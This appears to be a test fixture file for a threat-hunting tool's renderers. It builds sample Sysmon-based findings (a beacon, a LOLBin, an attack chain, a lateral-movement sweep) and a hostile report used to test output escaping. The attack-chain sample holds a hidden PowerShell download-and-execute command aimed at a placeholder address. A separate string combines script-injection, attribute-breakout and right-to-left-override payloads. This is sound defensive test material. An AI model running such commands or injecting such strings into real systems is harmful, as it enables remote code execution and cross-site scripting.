/**
 * Hunt reports built by hand for the renderer tests: one finding of each shape the renderers
 * treat apart (plain, beacon with a histogram, chain with a story, inbound; a sweep over several
 * processes and a LOLBin taking a connection in, outside the sample report), a suppressed rule,
 * a coverage section and a pivot. Values follow real Sysmon data; the addresses are from the
 * documentation ranges (RFC 5737).
 */
import type {
  Evidence,
  Finding,
  HuntReport,
  NetworkPivotRow,
} from '../../src/report/hunt-types.js';

const WORKSTATION = 'WS-FIN-07.corp.example';
const SYSMON = 'Microsoft-Windows-Sysmon%4Operational.evtx';

/** `count` Sysmon Event ID 3 evidence entries one minute apart, record ids from `firstId`. */
export function evidenceRun(count: number, firstId: number, startMinute = 0): Evidence[] {
  return Array.from({ length: count }, (_unused, i) => ({
    file: SYSMON,
    recordId: String(firstId + i),
    eventId: 3,
    time: minute(startMinute + i),
  }));
}

/** An ISO time on 2024-05-01, `n` minutes after 08:00 UTC, seven fraction digits. */
export function minute(n: number): string {
  const date = new Date(Date.UTC(2024, 4, 1, 8, n));
  return date.toISOString().replace('.000Z', '.0000000Z');
}

/** rundll32 talking to a public address. */
export const LOLBIN: Finding = {
  kind: 'lolbin-outbound',
  severity: 'high',
  computer: WORKSTATION,
  image: 'C:\\Windows\\System32\\rundll32.exe',
  processGuid: '{6f1c2a7e-4b1d-6632-2a01-000000000b00}',
  destinationIp: '198.51.100.23',
  destinationPort: 443,
  queriedName: 'cdn-update.example.net',
  firstSeen: minute(3),
  lastSeen: minute(9),
  count: 3,
  evidence: evidenceRun(3, 5120, 3),
  why: 'rundll32.exe, a signed Windows binary often used to run attacker DLLs, connected to a public address.',
};

/** A one-minute beacon: 47 attempts, 46 intervals in 5-second bins, 6 of them non-empty. */
export const BEACON: Finding = {
  kind: 'beacon',
  severity: 'high',
  computer: WORKSTATION,
  image: 'C:\\Users\\alice\\AppData\\Local\\Temp\\OneDriveUpdate.exe',
  processGuid: '{6f1c2a7e-4c02-6632-3b01-000000000b00}',
  destinationIp: '203.0.113.77',
  destinationPort: 8443,
  destinationHostname: 'static-77.example.com',
  queriedName: 'update-check.example.org',
  firstSeen: minute(10),
  lastSeen: minute(57),
  count: 48,
  evidence: evidenceRun(48, 6000, 10),
  why: 'OneDriveUpdate.exe reached 203.0.113.77:8443 every 60 s with ±12% jitter over 47 minutes.',
  beacon: {
    connections: 48,
    attempts: 47,
    medianIntervalMs: 60_000,
    jitter: 0.12,
    score: 0.91,
    parts: { regularity: 0.95, count: 0.88, span: 0.9 },
    histogram: { binWidthMs: 5_000, counts: [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 9, 20, 11, 3, 0, 1] },
  },
};

/** Word starts PowerShell, which looks a name up, connects, and drops a DLL. */
export const CHAIN: Finding = {
  kind: 'chain',
  severity: 'critical',
  computer: WORKSTATION,
  image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  processGuid: '{6f1c2a7e-4a90-6632-1c01-000000000b00}',
  destinationIp: '203.0.113.77',
  destinationPort: 8443,
  queriedName: 'update-check.example.org',
  firstSeen: minute(1),
  lastSeen: minute(2),
  count: 4,
  evidence: [],
  why: 'powershell.exe, started by WINWORD.EXE, resolved a name, connected out and wrote a DLL within a minute.',
  story: [
    {
      step: 'process-start',
      time: '2024-05-01T08:01:00.1200000Z',
      summary:
        'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.77:8443/a\')"',
      evidence: {
        file: SYSMON,
        recordId: '4410',
        eventId: 1,
        time: '2024-05-01T08:01:00.1200000Z',
      },
    },
    {
      step: 'dns',
      time: '2024-05-01T08:01:00.4000000Z',
      summary: 'update-check.example.org -> 203.0.113.77',
      evidence: {
        file: SYSMON,
        recordId: '4411',
        eventId: 22,
        time: '2024-05-01T08:01:00.4000000Z',
      },
    },
    {
      step: 'network',
      time: '2024-05-01T08:01:00.6000000Z',
      summary: '10.0.4.57:50122 -> 203.0.113.77:8443 tcp',
      evidence: {
        file: SYSMON,
        recordId: '4412',
        eventId: 3,
        time: '2024-05-01T08:01:00.6000000Z',
      },
    },
    {
      step: 'file-create',
      time: '2024-05-01T08:02:00.0000000Z',
      summary: 'C:\\Users\\alice\\AppData\\Roaming\\upd.dll',
      evidence: {
        file: SYSMON,
        recordId: '4419',
        eventId: 11,
        time: '2024-05-01T08:02:00.0000000Z',
      },
    },
  ],
};

/** RDP reached from a public address. */
export const INBOUND: Finding = {
  kind: 'inbound-admin-port',
  severity: 'medium',
  computer: 'DC01.corp.example',
  image: 'C:\\Windows\\System32\\svchost.exe',
  sourceIp: '198.51.100.200',
  destinationIp: '10.0.4.10',
  destinationPort: 3389,
  firstSeen: minute(20),
  lastSeen: minute(21),
  count: 2,
  evidence: [
    { recordId: '880', eventId: 3, time: minute(20) },
    { recordId: '881', eventId: 3, time: minute(21) },
  ],
  why: 'A public address (198.51.100.200) connected to RDP (3389) on this host.',
};

/** PowerShell in three processes reaching SMB on twelve internal hosts: a sweep. */
export const SWEEP: Finding = {
  kind: 'lateral-movement',
  severity: 'high',
  computer: WORKSTATION,
  image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  processGuid: '{6f1c2a7e-5a10-6632-4c01-000000000b00}',
  processGuids: [
    '{6f1c2a7e-5a10-6632-4c01-000000000b00}',
    '{6f1c2a7e-5a44-6632-4d01-000000000b00}',
    '{6f1c2a7e-5a71-6632-4e01-000000000b00}',
  ],
  destinationIp: '10.0.4.21',
  destinationPort: 445,
  destinations: Array.from({ length: 12 }, (_unused, i) => `10.0.4.${21 + i}`),
  firstSeen: minute(30),
  lastSeen: minute(41),
  count: 12,
  evidence: evidenceRun(12, 7000, 30),
  why: 'powershell.exe reached SMB (445) on 12 internal hosts in 11 minutes.',
  alsoMatched: ['lolbin-outbound'],
};

/** mshta taking a connection in from a public address. */
export const LOLBIN_INBOUND: Finding = {
  kind: 'lolbin-inbound',
  severity: 'high',
  computer: 'DC01.corp.example',
  image: 'C:\\Windows\\System32\\mshta.exe',
  processGuid: '{6f1c2a7e-6b20-6632-5f01-000000000b00}',
  processGuids: ['{6f1c2a7e-6b20-6632-5f01-000000000b00}'],
  sourceIp: '198.51.100.77',
  destinationIp: '10.0.4.10',
  destinationPort: 8080,
  firstSeen: minute(50),
  lastSeen: minute(50),
  count: 1,
  evidence: evidenceRun(1, 9100, 50),
  why: 'mshta.exe accepted a connection from public address 198.51.100.77 on port 8080.',
};

/** A pivot row for the beacon's traffic. */
export const PIVOT_BEACON: NetworkPivotRow = {
  computer: WORKSTATION,
  image: BEACON.image ?? '',
  destinationIp: '203.0.113.77',
  ipClass: 'public',
  count: 48,
  ports: [8443],
  hostnames: ['static-77.example.com'],
  queriedNames: ['update-check.example.org'],
  firstSeen: minute(10),
  lastSeen: minute(57),
};

/** `count` more pivot rows, to a made-up private address each, counts falling. */
export function pivotFiller(count: number): NetworkPivotRow[] {
  return Array.from({ length: count }, (_unused, i) => ({
    ...PIVOT_BEACON,
    image: 'C:\\Program Files\\Contoso\\agent.exe',
    destinationIp: `10.0.9.${i + 1}`,
    ipClass: 'private',
    count: 40 - i,
    hostnames: [],
    queriedNames: [],
  }));
}

/** A full report: four findings (listed least severe first, to test the ordering), the rest. */
export function sampleReport(): HuntReport {
  return {
    input: {
      records: 12_873,
      recovered: 0,
      duplicates: 0,
      activities: 11_204,
      networkConnections: 3_310,
      computers: [WORKSTATION, 'DC01.corp.example'],
      firstTime: '2024-05-01T07:58:12.0000000Z',
      lastTime: '2024-05-01T09:10:00.0000000Z',
    },
    findings: [INBOUND, LOLBIN, BEACON, CHAIN],
    suppressed: [
      {
        rule: 'image=C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe',
        line: 3,
        count: 14,
        kinds: ['beacon', 'user-writable-outbound'],
      },
    ],
    pivot: [PIVOT_BEACON, ...pivotFiller(2)],
    coverage: {
      basis: 'config',
      configName: 'sysmonconfig-export.xml',
      blindSpots: [
        {
          category: 'lolbin',
          label: 'bitsadmin.exe',
          reason: 'no NetworkConnect include rule names it',
        },
        {
          category: 'common-process',
          label: 'chrome.exe',
          reason: 'excluded by Image end with chrome.exe',
        },
      ],
      notes: ['NetworkConnect is include-only: only listed images and ports are logged.'],
    },
  };
}

/**
 * What an attacker can put into an event field: a terminal colour sequence and carriage
 * return, markup, an attribute breakout, a URL scheme and a right-to-left override.
 */
export const EVIL =
  '\x1b[31m\r<script>alert(1)</script>" onmouseover="x javascript:alert(2) \u202egpj.exe';

/** EVIL as the text report shows it: every control an escape, the rest as it was. */
export const EVIL_IN_TEXT =
  '\\x1b[31m\\r<script>alert(1)</script>" onmouseover="x javascript:alert(2) \\u202egpj.exe';

/** EVIL as the HTML report shows it: the same escapes, then the HTML specials as entities. */
export const EVIL_IN_HTML =
  '\\x1b[31m\\r&lt;script&gt;alert(1)&lt;/script&gt;&quot; onmouseover=&quot;x ' +
  'javascript:alert(2) \\u202egpj.exe';

/** A value with EVIL after it. */
export const taint = (value: string): string => `${value}${EVIL}`;

/** The sample report with EVIL in every text field a renderer prints, and one finding whose
 * kind and severity are not ones the engine knows. */
export function hostileReport(): HuntReport {
  const report = sampleReport();
  const findings = report.findings.map(taintFinding);
  const odd = { ...taintFinding(LOLBIN), kind: taint('kind'), severity: taint('sev') };

  return {
    ...report,
    input: {
      ...report.input,
      computers: [taint('WS'), taint('DC')],
      firstTime: taint('first'),
      lastTime: taint('last'),
    },
    findings: [...findings, odd as unknown as Finding],
    suppressed: report.suppressed.map((rule) => ({ ...rule, rule: taint('image=') })),
    pivot: report.pivot.map(taintPivotRow),
    coverage: {
      basis: 'config',
      configName: taint('config.xml'),
      blindSpots: [{ category: 'lolbin', label: taint('label'), reason: taint('reason') }],
      notes: [taint('note')],
    },
  };
}

function taintFinding(finding: Finding): Finding {
  const evidence = finding.evidence.map((item) => ({
    ...item,
    file: taint('file'),
    time: taint(item.time),
  }));
  const story = finding.story?.map((step) => ({
    ...step,
    time: taint(step.time),
    summary: taint('summary'),
    evidence: { ...step.evidence, file: taint('step-file') },
  }));

  return {
    ...finding,
    computer: taint('computer'),
    image: taint('C:\\Temp\\'),
    processGuid: taint('guid'),
    sourceIp: taint('source'),
    destinationIp: taint('203.0.113.9'),
    destinationHostname: taint('hostname'),
    queriedName: taint('queried'),
    processGuids: [taint('guid-1'), taint('guid-2')],
    destinations: [taint('10.0.0.1'), taint('10.0.0.2')],
    alsoMatched: [taint('kind') as Finding['kind']],
    firstSeen: taint(finding.firstSeen),
    lastSeen: taint(finding.lastSeen),
    why: taint('why'),
    evidence: evidence.length > 0 ? evidence : [{ recordId: taint('id'), eventId: 3, time: '' }],
    ...(story === undefined ? {} : { story }),
    ...(finding.beacon === undefined
      ? {}
      : { beacon: { ...finding.beacon, parts: { [taint('part')]: 0.5 } } }),
  };
}

function taintPivotRow(row: NetworkPivotRow): NetworkPivotRow {
  return {
    ...row,
    computer: taint('computer'),
    image: taint('image'),
    destinationIp: taint('ip'),
    ipClass: taint('class'),
    hostnames: [taint('hostname')],
    queriedNames: [taint('queried')],
    firstSeen: taint(row.firstSeen),
    lastSeen: taint(row.lastSeen),
  };
}
